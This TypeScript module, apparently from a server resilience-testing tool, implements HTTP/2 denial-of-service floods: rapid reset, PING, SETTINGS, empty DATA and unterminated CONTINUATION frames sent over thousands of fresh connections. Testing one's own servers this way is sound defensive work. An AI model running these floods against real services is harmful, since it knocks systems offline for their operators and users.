/**
 * Floods of frames that carry nothing: streams that are reset at once, empty frames, pings and settings. Each costs the
 * server more than its nine bytes, and a budget per connection alone does not help, since the next connection has a new
 * one.
 */
import type { Attack } from "../attack.js";
import type { Attacker } from "../attacker/attacker.js";
import {
  callHeaders,
  FLAG,
  FRAME,
  frame,
  literalHeaders,
  type RawConnection,
} from "../attacker/raw-connection.js";
import { METHOD } from "./messages.js";

const CANCEL = Buffer.from([0, 0, 0, 8]);
const CONNECTIONS_AT_ONCE = 4;
const MAX_CONNECTIONS = 20_000;
const FRAMES_PER_WRITE = 500;

/** Opens connections again and again, and sends on each until the server closes it. */
function floodOnFreshConnections(
  attacker: Attacker,
  flood: (connection: RawConnection) => Promise<void>,
): Promise<void> {
  return attacker.repeat(MAX_CONNECTIONS, CONNECTIONS_AT_ONCE, async () => {
    const connection = attacker.connectRaw();
    await connection.connected();
    if (!connection.isOpen) return attacker.wait(10);
    connection.begin();
    await flood(connection);
    connection.socket.destroy();
  });
}

/** A flood of the same frames on one connection after the other. */
function frames(name: string, what: string, batch: Buffer): Attack {
  return {
    name,
    sends: `${what}, on fresh connections`,
    run: (attacker) =>
      floodOnFreshConnections(attacker, async (connection) => {
        while (attacker.goesOn && connection.isOpen) await connection.sendInTurn(batch);
      }),
  };
}

export const resetFlood: Attack = {
  name: "reset-flood",
  sends: "HEADERS and RST_STREAM, 4,000 on each of fresh connections",
  isQuick: true,
  run(attacker) {
    const headers = literalHeaders(callHeaders(METHOD.dispatch));
    return floodOnFreshConnections(attacker, async (connection) => {
      for (let id = 1; id < 8_000 && attacker.goesOn && connection.isOpen; id += 200) {
        const parts: Buffer[] = [];
        for (let next = id; next < id + 200; next += 2) {
          parts.push(frame(FRAME.headers, FLAG.endHeaders, next, headers));
          parts.push(frame(FRAME.reset, 0, next, CANCEL));
        }
        await connection.sendInTurn(...parts);
      }
    });
  },
};

export const pingFlood: Attack = frames("ping-flood", "PING", many(frame(FRAME.ping, 0, 0, Buffer.alloc(8))));

export const settingsFlood: Attack = frames("settings-flood", "SETTINGS", many(frame(FRAME.settings, 0, 0)));

/** Empty frames of an open stream. */
export const emptyDataFlood: Attack = {
  name: "empty-data-flood",
  sends: "empty DATA frames of an open stream, on fresh connections",
  run(attacker) {
    const headers = frame(FRAME.headers, FLAG.endHeaders, 1, literalHeaders(callHeaders(METHOD.submit)));
    const batch = many(frame(FRAME.data, 0, 1));
    return floodOnFreshConnections(attacker, async (connection) => {
      connection.send(headers);
      while (attacker.goesOn && connection.isOpen) await connection.sendInTurn(batch);
    });
  },
};

/** Headers that never end: each CONTINUATION adds to what the server keeps of them. */
export const continuationFlood: Attack = {
  name: "continuation-flood",
  sends: "HEADERS with CONTINUATION frames without an end, on fresh connections",
  run(attacker) {
    const headers = frame(FRAME.headers, 0, 1, literalHeaders(callHeaders(METHOD.submit)));
    const batch = many(frame(FRAME.continuation, 0, 1, literalHeaders({ "x-more": "y".repeat(100) })));
    return floodOnFreshConnections(attacker, async (connection) => {
      connection.send(headers);
      while (attacker.goesOn && connection.isOpen) await connection.sendInTurn(batch);
    });
  },
};

function many(one: Buffer): Buffer {
  return Buffer.alloc(FRAMES_PER_WRITE * one.byteLength, one);
}
